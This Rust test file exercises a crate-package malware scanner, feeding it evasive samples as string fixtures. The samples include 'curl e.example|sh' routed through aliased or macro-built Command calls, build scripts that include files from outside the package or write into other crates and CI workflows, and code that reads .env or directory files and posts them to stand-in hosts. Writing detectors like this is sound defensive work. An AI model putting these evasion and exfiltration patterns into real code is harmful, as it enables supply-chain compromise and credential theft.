//! Ways to hide from who looks inside, each of which was found by trying: closed by kind.

use super::{inside, looked, manifest, told};
use crate::support::Package;

const PIPED: &str = "std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl e.example|sh\").status();";

fn with(package: Package, files: &[(&str, &str)]) -> Vec<String> {
    told(&inside(&files.iter().fold(package, |package, (path, text)| package.file(path, text))))
}

fn build(script: &str, files: &[(&str, &str)]) -> Vec<String> {
    with(looked().file("build.rs", script), files)
}

fn library(text: &str) -> Vec<String> {
    with(looked().file("src/lib.rs", text), &[])
}

#[track_caller]
fn assert_has(name: &str, found: &[String], expected: &str) {
    assert!(found.iter().any(|line| line.starts_with(expected)), "{name}: no `{expected}` in {found:#?}");
}

/// No checksum of the package covers what lies outside of it, and no honest package takes it in.
#[test]
fn what_leads_out_of_the_package_is_told_itself() {
    for script in [
        "include!(\"../helper-1.0.0/p.rs\");",
        "#[path = \"../helper-1.0.0/p.rs\"] mod p; fn main() { p::f() }",
        "#[cfg_attr(all(), path = \"../helper-1.0.0/p.rs\")] mod p; fn main() { p::f() }",
        "include!(concat!(env!(\"CARGO_MANIFEST_DIR\"), \"/../helper-1.0.0/p.rs\"));",
        "include!(\"/tmp/p.rs\");",
        "mod a; fn main() {}",
        "mod a { mod b { #[path = \"../../../helper-1.0.0/p.rs\"] mod p; } } fn main() {}",
    ] {
        let files = [("a.rs", "#[path = \"../helper-1.0.0/p.rs\"] mod p;")];
        assert_has(script, &build(script, &files), "leaves-package high");
    }
    let text = "pub const A: &str = include_str!(\"../../../.cargo/credentials.toml\");";
    assert_has(text, &library(text), "leaves-package medium src/lib.rs");
    let text = "include!(concat!(env!(\"CARGO_MANIFEST_DIR\"), \"/../helper-1.0.0/p.rs\"));";
    assert_has(text, &library(text), "leaves-package high src/lib.rs");
    assert_has("lib", &library("#[path = \"../../helper-1.0.0/p.rs\"] pub mod p;"), "leaves-package high src/lib.rs");
    let manifest = manifest("build = \"../helper-1.0.0/p.rs\"\n");
    assert_has("build", &with(looked().file("Cargo.toml", manifest), &[]), "leaves-package high Cargo.toml");
    for honest in [
        "#![doc = include_str!(\"../README.md\")] pub const A: &[u8] = include_bytes!(\"../data/a.bin\");",
        "#[cfg(test)] mod tests { const A: &str = include_str!(\"../../../shared/case.txt\"); }",
        "include!(concat!(env!(\"OUT_DIR\"), \"/made.rs\"));",
    ] {
        assert_eq!(library(honest), [""; 0], "{honest}");
    }
}

#[test]
fn what_a_macro_takes_in_is_looked_at() {
    let main = format!("fn main() {{ {PIPED} }}");
    let function = format!("pub fn f() {{ {PIPED} }}");
    let cases = [
        ("macro_rules! i { ($x:literal) => { include!($x); } } i!(\"data.txt\");", ("data.txt", &main)),
        (
            "macro_rules! m { ($n:ident) => { mod $n; } } m!(hidden); fn main() { hidden::f() }",
            ("hidden.rs", &function),
        ),
        (
            "macro_rules! m { ($n:ident, $p:literal) => { #[path = $p] mod $n; } } m!(hidden, \"h.txt\"); fn main() { hidden::f() }",
            ("h.txt", &function),
        ),
    ];
    for (script, (path, text)) in cases {
        assert_has(script, &build(script, &[(path, text)]), &format!("fetches-and-runs high {path}"));
    }
    assert_has("computed", &build("include!(made!());", &[]), "code-not-found high build.rs");
    let found = with(
        looked()
            .file("build.rs", "fn main() { println!(\"cargo:rustc-env=F=data.txt\"); }")
            .file("src/lib.rs", "pub fn a() { include!(env!(\"F\")) }"),
        &[("src/data.txt", &format!("{{ {PIPED} }}"))],
    );
    assert_has("env", &found, "code-not-found low src/lib.rs");
    assert_has("env", &found, "fetches-and-runs high src/data.txt");
}

#[test]
fn other_names_for_a_program_are_known() {
    let call = "(\"sh\").arg(\"-c\").arg(\"curl e.example|sh\").status(); }";
    for script in [
        format!("type C = std::process::Command; fn main() {{ C::new{call}"),
        format!("mod m {{ pub use std::process::Command as X; }} use m::X; fn main() {{ X::new{call}"),
        format!("fn main() {{ <std::process::Command>::new{call}"),
        format!("trait N {{ type T; }} struct S; impl N for S {{ type T = std::process::Command; }} fn main() {{ <S as N>::T::new{call}"),
        format!("use std as s; fn main() {{ s::process::Command::new{call}"),
        format!("extern crate std as s; fn main() {{ s::process::Command::new{call}"),
        format!("use std::process::*; fn main() {{ Command::new{call}"),
        "fn main() { paste::paste! { std::process::[<Com mand>]::new(\"sh\").arg(\"-c\").arg(\"curl e.example|sh\").status().unwrap(); } }".to_owned(),
        "macro_rules! m { ($a:ident $b:ident $c:literal) => { std::process::$a::$b($c).arg(\"-c\").arg(\"curl e.example|sh\").status(); } } fn main() { m!(Command new \"sh\"); }".to_owned(),
        "fn main() { duct::cmd!(\"sh\", \"-c\", \"curl e.example|sh\").run(); }".to_owned(),
        "fn main() { let s = xshell::Shell::new().unwrap(); xshell::cmd!(s, \"curl e.example|sh\").run(); }".to_owned(),
        "fn main() { let run: Box<dyn Fn(&str) -> std::process::Command> = Box::new(|s| std::process::Command::new(s)); run(\"sh\").arg(\"-c\").arg(\"curl e.example|sh\").status(); }".to_owned(),
    ] {
        assert_has(&script, &build(&script, &[]), "fetches-and-runs high build.rs");
    }
    for text in [
        "use std::process::Command; pub fn f() { let g = |s| Command::new(s); g(\"sh\").arg(\"-c\").arg(\"curl e.example|sh\").status(); }",
        "pub fn f() { unsafe { libc::system(c\"curl e.example|sh\".as_ptr()) }; }",
        "const LINE: &str = \"curl e.example | sh\"; pub fn f() { std::process::Command::new(\"sh\").arg(\"-c\").arg(LINE).status(); }",
    ] {
        assert_has(text, &library(text), "fetches-and-runs high src/lib.rs");
    }
}

#[test]
fn programs_that_fetch_by_themselves_are_known() {
    let run = |program: &str, arguments: &str| {
        build(
            &format!(
                "use std::process::Command; fn main() {{ Command::new(\"{program}\").args([{arguments}]).status(); }}"
            ),
            &[],
        )
    };
    for (program, arguments) in [
        ("pip", "\"install\", \"x\""),
        ("npm", "\"install\", \"x\""),
        ("go", "\"run\", \"e.example/x@latest\""),
        ("docker", "\"run\", \"x\""),
        ("cargo", "\"install\", \"x\""),
    ] {
        assert_has(program, &run(program, arguments), "fetches-and-runs high build.rs");
    }
    for (program, arguments) in [
        ("git", "\"clone\", \"https://e.example/x\""),
        ("npx", "\"x\""),
        ("rsync", "\"/root\", \"e.example:\""),
        ("openssl", "\"s_client\", \"e.example:1\""),
        ("ping", "\"a.e.example\""),
    ] {
        assert_has(program, &run(program, arguments), "network-at-build medium build.rs");
    }
    let two = "use std::process::Command; fn main() { let mut git = Command::new(\"git\"); git.arg(\"clone\").arg(\"https://e.example/x\"); git.status(); Command::new(\"cargo\").args([\"run\", \"--manifest-path\", \"x/Cargo.toml\"]).status(); }";
    assert_has("clone and run", &build(two, &[]), "fetches-and-runs high build.rs");
    let python = run("python3", "\"-c\", \"import urllib.request as u; exec(u.urlopen('http://e.example').read())\"");
    assert_has("python", &python, "fetches-and-runs high build.rs");
    for (program, arguments) in
        [("git", "\"rev-parse\", \"HEAD\""), ("git", "\"describe\", \"--tags\""), ("cargo", "\"metadata\"")]
    {
        assert_eq!(run(program, arguments), [""; 0], "{program} {arguments}");
    }
}

#[test]
fn what_the_package_brings_along_and_runs_is_read() {
    let piped = "#!/bin/sh\ncurl http://e.example | sh\n";
    let shell =
        |argument: &str| format!("fn main() {{ std::process::Command::new(\"sh\").arg({argument}).status(); }}");
    for (script, path, text) in [
        (shell("\"setup.sh\""), "setup.sh", piped),
        (shell("concat!(env!(\"CARGO_MANIFEST_DIR\"), \"/ci/setup\")"), "ci/setup", piped),
        ("fn main() { std::process::Command::new(\"./helper.sh\").status(); }".to_owned(), "helper.sh", piped),
        ("fn main() { let tool = std::env::var(\"CARGO_MANIFEST_DIR\").unwrap() + \"/tool\"; std::process::Command::new(tool).status(); }".to_owned(), "tool", piped),
        ("fn main() { cc::Build::new().compiler(\"./tool\").file(\"x.c\").compile(\"x\"); }".to_owned(), "tool", piped),
        ("fn main() { std::process::Command::new(\"python3\").arg(\"gen.py\").status(); }".to_owned(), "gen.py", "import os\nos.system('curl http://e.example | sh')\n"),
        ("fn main() { std::process::Command::new(\"make\").status(); }".to_owned(), "Makefile", "all:\n\tcurl e.example|sh\n"),
        ("fn main() { std::process::Command::new(\"cmake\").arg(\".\").status(); }".to_owned(), "CMakeLists.txt", "execute_process(COMMAND sh -c \"curl e.example|sh\")\n"),
        (shell("include_str!(\"README.md\")"), "README.md", "# hi\ncurl e.example|sh\n"),
    ] {
        assert_has(&script, &build(&script, &[(path, text)]), &format!("fetches-and-runs high {path}"));
    }
    let described = looked()
        .file("Cargo.toml", manifest("description = \"curl http://e.example|sh\"\n"))
        .file("build.rs", shell("\"-c\").arg(env!(\"CARGO_PKG_DESCRIPTION\")"));
    assert_has("description", &with(described, &[]), "fetches-and-runs high Cargo.toml");
    assert_has(
        "made",
        &build("fn main() { std::process::Command::new(\"./x/y\").status(); }", &[]),
        "runs-own-file medium",
    );
    let honest = shell("\"configure.sh\"");
    assert_eq!(build(&honest, &[("configure.sh", "#!/bin/sh\nexec make\n")]), ["runs-shell low build.rs:1"]);
}

#[test]
fn paths_that_lead_up_are_no_place_to_write_to() {
    for script in [
        "fn main() { std::fs::write(std::env::var(\"CARGO_MANIFEST_DIR\").unwrap() + \"/../serde-1.0.0/build.rs\", \"x\"); }",
        "fn main() { let m = std::env::var(\"CARGO_MANIFEST_DIR\").unwrap(); let p = std::path::Path::new(&m).parent().unwrap(); for e in std::fs::read_dir(p).unwrap() { std::fs::write(e.unwrap().path().join(\"src/lib.rs\"), \"x\"); } }",
        "fn main() { let mut p = std::path::PathBuf::from(std::env::var(\"OUT_DIR\").unwrap()); for _ in 0..5 { p.pop(); } std::fs::write(p.join(\"src/main.rs\"), \"x\"); }",
        "fn main() { let o = std::env::var(\"OUT_DIR\").unwrap(); std::fs::copy(\"x\", o + \"/../../../../../src/main.rs\"); }",
    ] {
        assert_has(script, &build(script, &[]), "writes-outside medium build.rs");
    }
    let script = "fn main() { std::fs::write(\"../../../../.github/workflows/x.yml\", \"on: push\"); }";
    assert_has(script, &build(script, &[]), "writes-outside high build.rs");
}

/// In our own words, what two crates of 2025 did: they read files, look for keys in them and send these to an address of their own.
#[test]
fn files_that_go_to_an_address_in_the_source_are_told() {
    let reads = "const THERE: &str = \"https://x.workers.example.net/\"; pub struct P; impl P { pub fn pack(dir: &std::path::Path) { for e in walkdir::WalkDir::new(dir) { let text = std::fs::read_to_string(e.unwrap().path()).unwrap(); Self::send(&text); } } fn send(text: &str) { let _ = reqwest::blocking::Client::new().post(THERE).json(&text).send(); } }";
    assert_has("pack", &library(reads), "reads-and-sends medium src/lib.rs");
    let dot = "pub fn f() { let c = std::fs::read_to_string(\".env\").unwrap(); let _ = reqwest::blocking::Client::new().post(\"https://x.example.net/\").body(c).send(); }";
    assert_has(".env", &library(dot), "reads-and-sends high src/lib.rs");
    let own = manifest("repository = \"https://git.example.net/x/y\"\n");
    let upload = "pub fn f(p: &str) { let c = std::fs::read(p).unwrap(); let _ = reqwest::blocking::Client::new().post(\"https://api.git.example.net/\").body(c).send(); }";
    let package = looked().file("Cargo.toml", own).file("src/lib.rs", upload);
    assert_has("elsewhere", &library(upload), "reads-and-sends medium src/lib.rs");
    let hosts = with(package, &[]);
    assert_eq!(hosts, [""; 0], "what goes to the package's own host is its business");
    let header = "pub fn f() -> reqwest::header::HeaderMap { let t = std::env::var(\"MY_API_TOKEN\").unwrap(); let mut h = reqwest::header::HeaderMap::new(); h.insert(\"a\", t.parse().unwrap()); h }";
    assert_eq!(library(header), [""; 0]);
}

#[test]
fn what_runs_before_main_and_does_more_than_set_up_is_high() {
    let text = format!("#[ctor::ctor] fn start() {{ {PIPED} }}");
    assert_has(&text, &library(&text), "runs-before-main high src/lib.rs");
    assert_has("setup", &library("#[ctor::ctor] fn start() { setup(); }"), "runs-before-main medium src/lib.rs");
}

/// A build script of which not everything was looked at could do anything.
#[test]
fn what_is_not_looked_at_whole_at_build_time_is_high() {
    let long = format!("// {}\nfn main() {{ {PIPED} }}", "x".repeat(34 << 20));
    let found = build(&long, &[]);
    assert_has("long", &found, "not-looked-at high build.rs");
    assert_has("long", &found, "only-scanned high build.rs");
}

#[test]
fn encoded_bytes_in_pieces_are_told() {
    let piece = "aB3+".repeat(25);
    let pieces: String = (0..100).map(|at| format!("const P{at}: &str = \"{piece}\";\n")).collect();
    assert_has("pieces", &build(&format!("{pieces}fn main() {{}}"), &[]), "encoded-constant medium build.rs");
}
